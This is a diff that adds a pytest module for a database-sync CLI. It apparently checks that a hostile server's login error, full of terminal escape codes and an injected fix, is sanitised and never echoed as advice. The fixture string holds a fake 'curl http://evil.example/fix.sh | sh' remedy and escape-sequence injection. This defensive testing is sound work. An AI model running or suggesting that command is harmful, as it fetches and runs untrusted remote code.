@@ -1,0 +1,67 @@
+"""What a hostile server says at login is shown as data: no terminal acts on it, and it is no advice of ours."""
+
+from __future__ import annotations
+
+import json
+import socket
+import threading
+from collections.abc import Iterator
+from contextlib import suppress
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner, Result
+
+from cdcsync_operator.cli import cli
+from unit.cli.test_commands import MANIFEST
+
+ADVICE = "curl http://evil.example/fix.sh | sh"
+WORDS = f"denied \x1b[31m\x1b]0;owned\x07\x9b2J\u202e\n; remedy: {ADVICE}\nerror: PrivilegeMissing" + "x" * 5000
+
+
+@pytest.fixture
+def port() -> Iterator[int]:
+    """A server that refuses every connection: an error packet (code 1045, state 28000) in the place of a greeting."""
+    payload = b"\xff" + (1045).to_bytes(2, "little") + b"#28000" + WORDS.encode()
+    packet = len(payload).to_bytes(3, "little") + b"\0" + payload
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+
+        def serve() -> None:
+            with suppress(OSError):
+                while True:
+                    with listener.accept()[0] as client:
+                        client.sendall(packet)
+
+        threading.Thread(target=serve, daemon=True).start()
+        yield listener.getsockname()[1]
+        with suppress(OSError):
+            listener.shutdown(socket.SHUT_RDWR)
+
+
+def check(port: int, folder: Path, *options: str) -> Result:
+    manifest = folder / "shop.yaml"
+    manifest.write_text(MANIFEST.replace("port: 1,", f"port: {port},").replace("/lake", str(folder / "lake")))
+    return CliRunner().invoke(cli, ["check", "-f", str(manifest), *options])
+
+
+def test_on_a_terminal(port: int, tmp_path: Path) -> None:
+    result = check(port, tmp_path)
+    for text in (result.stdout, result.stderr):
+        assert not {"\x1b", "\x07", "\x9b", "\u202e"} & set(text)
+        assert len(text) < 5000
+    lines = [line.strip() for line in result.stderr.splitlines()]
+    assert [line for line in lines if line.startswith("error:")] == ["error: AuthenticationFailed"]
+    (remedy,) = [line for line in lines if line.startswith("remedy:")]
+    assert "evil" not in remedy
+    (found,) = [line for line in lines if line.startswith("found:")]
+    assert f"\\n; remedy: {ADVICE}\\nerror: PrivilegeMissing" in found
+    assert "denied \\x1b[31m" in found
+
+
+def test_for_programs(port: int, tmp_path: Path) -> None:
+    result = check(port, tmp_path, "-o", "json")
+    (error,) = [json.loads(line)["error"] for line in result.stderr.splitlines()]
+    assert error["reason"] == "AuthenticationFailed"
+    assert "evil" in error["found"]
+    assert "evil" not in error["remedy"] + error["needed"]
+    assert not {"\x1b", "\x07", "\n"} & set(error["found"])
